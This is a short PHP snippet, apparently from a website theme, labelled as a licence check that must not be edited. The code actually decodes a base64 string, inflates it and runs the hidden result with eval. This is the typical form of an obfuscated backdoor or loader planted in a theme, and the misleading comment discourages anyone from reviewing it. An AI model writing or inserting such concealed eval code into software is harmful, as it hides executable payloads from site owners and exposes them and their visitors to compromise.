<?php
/* Theme licence check. Do not edit. */
$license = 'y0zTyCwuTi3RUIkP8A8OiVYqU4rV1KxOLUvMQRGyrgUA';
eval(gzinflate(base64_decode($license)));
